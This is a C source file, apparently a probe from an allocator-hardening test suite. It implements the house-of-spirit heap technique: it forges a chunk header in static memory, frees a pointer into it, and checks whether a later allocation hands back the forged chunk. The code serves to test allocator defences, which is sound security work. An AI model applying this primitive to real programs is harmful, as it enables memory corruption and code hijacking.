/* fake-chunk-free (the house-of-spirit technique): free a pointer into static memory behind a forged
 * boundary-tag header of the size class of the requested size (the layout of inline-header allocators
 * like glibc's: a size word with "previous in use" set, then plausible headers for the next two
 * chunks, so neither neighbour looks free). Primitive: a later allocation of the size returns the
 * forged chunk; searched over 100,000 allocations. */
#include "probe.h"

int main(int argc, char **argv)
{
    size_t size = probe_size(argc, argv, 0x48);
    size_t chunk = (size + 8 + 15) & ~(size_t)15; /* header word plus the data, in 16-byte units */
    if (chunk < 32)
        chunk = 32;
    if (4096 + chunk + 64 > PROBE_STATIC_AREA)
        probe_not_applicable(size, "forged-chunk-larger-than-the-static-area");
    probe_neighbours(size, PROBE_NEIGHBOURS);
    uint64_t *fake = (uint64_t *)(probe_static_area + 4096);
    fake[0] = 0;                  /* previous chunk's size (unused: it is in use) */
    fake[1] = chunk | 1;          /* this chunk's size, previous in use */
    uint64_t *next = (uint64_t *)((char *)fake + chunk);
    next[0] = chunk;
    next[1] = 0x20 | 1;           /* a small next chunk, this one (ours) marked in use */
    next[4 + 1] = 0x20 | 1;       /* and the one after it, so the next chunk looks in use too */
    probe_mark("setup-done");
    pfree(launder(&fake[2]));
    probe_mark("misuse-done");
    struct probe_hunt h;
    int worked = probe_hunt_returned(&h, size);
    probe_result("worked=%d size=%zu step=%lu chunk=%zu forged_returned=%d made=%lu", worked, size,
                 worked ? h.step : 0ul, chunk, h.hit == (void *)&fake[2], h.made);
    probe_go_on();
    return 0;
}
